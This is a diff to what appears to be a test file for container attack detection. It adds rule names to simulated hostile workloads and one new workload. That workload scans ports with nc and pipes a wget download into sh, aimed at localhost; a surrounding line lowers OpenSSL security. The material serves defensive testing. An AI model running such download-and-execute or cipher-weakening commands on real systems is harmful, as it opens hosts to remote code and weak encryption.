@@ -247,6 +247,7 @@ export const HOSTILE: readonly Workload[] = [
   {
     name: 'namespaces entered and made, the kernel’s files mounted and opened',
     rules: [
+      'host_power_used',
       'namespace_or_process_entered',
       'host_file_system_mounted',
       'process_hidden_by_mount',
@@ -355,7 +356,7 @@ export const HOSTILE: readonly Workload[] = [
   },
   {
     name: 'the system packed, encrypted and sent',
-    rules: ['system_folders_packed', 'file_sent_by_tool', 'encryption_tool_run'],
+    rules: ['packed_and_sent', 'system_folders_packed', 'file_sent_by_tool', 'encryption_tool_run'],
     run: (docker) =>
       shell(
         docker,
@@ -365,7 +366,13 @@ export const HOSTILE: readonly Workload[] = [
   },
   {
     name: 'metadata, a kubelet and a share asked; data hidden in shared memory',
-    rules: ['cloud_metadata_asked', 'control_port_asked', 'file_service_asked', 'hidden_staging_written'],
+    rules: [
+      'gathered_and_carried',
+      'cloud_metadata_asked',
+      'control_port_asked',
+      'file_service_asked',
+      'hidden_staging_written',
+    ],
     run: (docker) =>
       shell(
         docker,
@@ -381,6 +388,16 @@ export const HOSTILE: readonly Workload[] = [
         docker,
         'weak',
         "mkdir -p /etc/ssl; echo 'CipherString = ALL:@SECLEVEL=0' >> /etc/ssl/openssl.cnf; cp /etc/ssl/openssl.cnf /x; mv /x /etc/ssl/openssl.cnf; openssl ciphers 'ALL:@SECLEVEL=0' >/dev/null",
+      ),
+  },
+  {
+    name: 'ports that are tried, a download that is run at once',
+    rules: ['download_run', 'ports_tried'],
+    run: (docker) =>
+      shell(
+        docker,
+        'tried',
+        "for p in $(seq 1 25); do nc -w 1 127.0.0.1 $p </dev/null; done; sh -c 'wget -q -O - http://127.0.0.1:1/x | sh'; true",
       ),
   },
 ]
